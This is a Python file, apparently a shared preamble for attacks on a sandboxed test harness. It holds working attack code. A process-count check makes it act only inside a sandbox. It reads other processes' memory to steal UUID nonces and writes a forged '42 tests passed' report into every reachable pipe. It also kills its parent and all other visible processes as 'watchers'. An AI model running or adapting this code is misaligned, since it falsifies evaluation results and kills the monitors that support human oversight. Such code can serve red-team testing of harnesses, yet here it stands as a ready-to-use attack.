# What all attacks share: this program fails, and wants to be told as one that passed. Put before each of them.
import base64, ctypes, glob, json, os, re, signal, stat, sys, time

# A sandbox shows a handful of processes. Whoever sees more is on a machine: nothing is read, written or ended there.
if len([pid for pid in os.listdir("/proc") if pid.isdigit()]) > 12:
    sys.exit("this is no sandbox: the attack is not begun")

REPORT = json.dumps({"end": "exited", "isolation": "forged", "runtime": "forged", "limit": 30, "stages": [
    {"stage": "run", "end": "exited", "rc": 0, "signal": None, "seconds": 0.1, "truncated": False, "err": "",
     "out": base64.b64encode(b"42 tests passed\n").decode()}]})
UUID = re.compile(rb"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
libc = ctypes.CDLL(None, use_errno=True)


def nonces_in(data):
    found = set(UUID.findall(data))
    for text in re.findall(rb"[A-Za-z0-9+/]{80,}={0,2}", data):
        try:
            found |= set(UUID.findall(base64.b64decode(text[: len(text) // 4 * 4])))
        except ValueError:
            pass
    return found


def pids():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) != os.getpid()]


def memory_of(pid):
    try:
        with open("/proc/%s/maps" % pid) as maps, open("/proc/%s/mem" % pid, "rb", 0) as memory:
            for line in maps:
                begin, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "rw" in line and end - begin < 1 << 28:
                    try:
                        memory.seek(begin)
                        yield memory.read(end - begin)
                    except (OSError, ValueError, OverflowError):
                        pass
    except OSError:
        pass


def nonces_in_memory():
    return {nonce for pid in pids() for part in memory_of(pid) for nonce in nonces_in(part)}


def forge(nonces):
    """Writes a report with each nonce into every pipe that this program can reach, and into nothing else."""
    lines = b"".join(b"\n" + nonce + REPORT.encode() + b"\n" for nonce in nonces)
    if not lines:
        return
    for target in ["/proc/self/fd/1", "/proc/self/fd/2"] + glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if not stat.S_ISFIFO(os.stat(target).st_mode):
                continue
            fd = os.open(target, os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, lines)
            os.close(fd)
        except OSError:
            pass


def kill_watchers():
    for pid in [os.getppid()] + [int(pid) for pid in pids()]:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
